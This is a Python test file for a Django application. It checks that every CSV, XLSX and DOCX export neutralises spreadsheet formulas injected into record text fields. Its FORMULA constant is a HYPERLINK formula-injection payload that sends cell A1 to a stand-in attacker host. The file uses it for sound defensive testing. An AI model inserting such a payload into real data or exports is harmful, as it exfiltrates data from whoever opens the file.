"""Formula neutralisation in every export: generated from the models and the URL conf.

Every text field of every Samsyn record (CharField and TextField, from the models) is set to
a formula; then every download the URL conf offers (pages with a format, and every list with
?format=csv|xlsx) is fetched by the people who may, and opened: every xlsx cell, every csv
field and every docx paragraph. None may start like a formula unless neutralised ('=…).
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.apps import apps
from django.db import models
from django.db.models.functions import Cast, Concat, Left
from django.test import Client

from samsyn.calls import services as calls
from samsyn.calls.choices import ApplicationStatus, CallsRoleKind
from samsyn.calls.models import Application
from samsyn.exports import FORMULA_START
from samsyn.meetings.views import DOCUMENTS
from tests.api import openapi
from tests.auth import log_in
from tests.calls.conftest import calls_person
from tests.concurrency.test_missing_version import PK_KINDS
from tests.factories import region
from tests.security.test_access_matrix import discover_routes

pytestmark = pytest.mark.django_db

SAMSYN_APPS = ("parties", "pipeline", "calls", "meetings", "followup")
FORMULA = '=HYPERLINK("http://angripare.example/"&A1;"Klicka")-'
# Not text a person types into Samsyn, or not text at all: kept as they are.
NOT_TYPED = {
    "password",
    "username",
    "email",
    "digest",
    "pnr_hash",
    "pnr_encrypted",
    "video_room",
    "from_step",  # step slugs, chosen from the step machine
    "to_step",
}
PARAMETERS = {"fmt": ("csv", "xlsx", "pdf", "docx", "json"), "what": ("protokoll", "dagordning")}


def _text_fields(model):
    for f in model._meta.concrete_fields:
        if (
            isinstance(f, (models.CharField, models.TextField))
            and not f.choices
            and f.name not in NOT_TYPED
            and not (f.name == "code" or f.name.endswith("_code"))  # reference data keys
            and (f.max_length or 100) >= 8
        ):
            yield f


def inject_formulas() -> int:
    """Every typed text of every record becomes a formula (unique per row, within its length)."""
    fields = 0
    for label in SAMSYN_APPS:
        for model in apps.get_app_config(label).get_models():
            for f in _text_fields(model):
                pk = Cast("pk", models.CharField())
                value = Concat(models.Value("="), pk, models.Value(FORMULA[1:]))
                if f.max_length:
                    value = Left(value, f.max_length)
                model.objects.update(**{f.attname: value})
                fields += 1
    return fields


@pytest.fixture
def scene(sjuharad, alice, bob, settings):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}
    built = openapi.build(sjuharad, alice, bob)
    # An application approved for prioritisation, declared and scored: the paper has every sheet.
    rut = calls_person("rut", CallsRoleKind.REVIEWER, "SE23", region("14"))
    Application.objects.filter(pk=built.ids["application_id"]).update(
        status=ApplicationStatus.APPROVED
    )
    application = Application.objects.get(pk=built.ids["application_id"])
    calls.declare_jav(application, reviewer=rut, disqualified=False, reason="Ingen koppling.")
    calls.score_application(
        application,
        reviewer=rut,
        scores={p.code: (3, "Väl förankrad.") for p in application.call.principles.all()},
    )
    return built


def _urls(scene: openapi.Scene) -> list[str]:
    ids = {**scene.ids, "forbund_id": scene.alice.forbund_roles.first().forbund_id}
    kinds = {**PK_KINDS, "forbund": ("forbund_id",)}
    urls = []
    for route in discover_routes():
        names = [name for name, _ in route.converters]
        if not set(names) <= {"pk", "fmt", "what"}:
            continue
        combos = [{}]
        if "pk" in names:
            keys = kinds.get(route.route.split("/", 1)[0], ())
            combos = [{"pk": ids[k]} for k in keys]
        for name in ("what", "fmt"):
            if name in names:
                combos = [{**c, name: v} for c in combos for v in PARAMETERS[name]]
        if "what" in names:
            combos = [c for c in combos if (c["what"], c["fmt"]) in DOCUMENTS]
        for values in combos:
            base = route.url(values)
            urls.append(base)
            if not {"fmt", "what"} & set(names):
                urls += [base + "?format=csv", base + "?format=xlsx"]
    return urls


def _starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_START)


def opened(content: bytes, content_type: str) -> tuple[str, list[str]]:
    """(kind, every text value) of a downloaded file."""
    if content.startswith(b"PK\x03\x04"):
        names = zipfile.ZipFile(io.BytesIO(content)).namelist()
        if any(n.startswith("xl/") for n in names):
            from openpyxl import load_workbook

            book = load_workbook(io.BytesIO(content))
            values = []
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (
                            f"{sheet.title}!{cell.coordinate} is a formula"
                        )
                        if isinstance(cell.value, str):
                            values.append(cell.value)
            return "xlsx", values
        from docx import Document

        document = Document(io.BytesIO(content))
        paragraphs = list(document.paragraphs)
        for table in document.tables:
            for row in table.rows:
                for cell in row.cells:
                    paragraphs += cell.paragraphs
        return "docx", [p.text for p in paragraphs]
    if "csv" in content_type:
        text = content.decode("utf-8-sig")
        delimiter = ";" if text.count(";") >= text.count(",") else ","
        return "csv", [
            field for row in csv.reader(io.StringIO(text), delimiter=delimiter) for field in row
        ]
    return content_type.split(";")[0], []


def test_no_export_writes_a_live_formula(scene):
    assert inject_formulas() >= 40
    downloads: dict[str, int] = {}
    for person in (scene.alice, scene.stina):
        client = log_in(Client(), person)
        for url in _urls(scene):
            response = client.get(url)
            assert response.status_code < 500, url
            disposition = response.get("Content-Disposition", "")
            if response.status_code != 200 or "attachment" not in disposition:
                continue
            kind, values = opened(response.content, response["Content-Type"])
            live = [v for v in values if _starts_like_formula(v)]
            assert not live, f"{url} ({kind}) writes live formulas: {live[:3]}"
            neutralised = sum(v.startswith("'=") for v in values)
            downloads[url] = max(downloads.get(url, 0), neutralised)
    # The exports of the finding, and the injected text reached them.
    for url_part in ("prioritering.xlsx", "protokoll.docx", "dagordning.docx", "?format=csv"):
        matching = [u for u in downloads if url_part in u]
        assert matching, f"no {url_part} export was fetched: {sorted(downloads)}"
        assert any(downloads[u] for u in matching), f"{url_part}: no formula text reached it"
    assert len(downloads) >= 10, sorted(downloads)
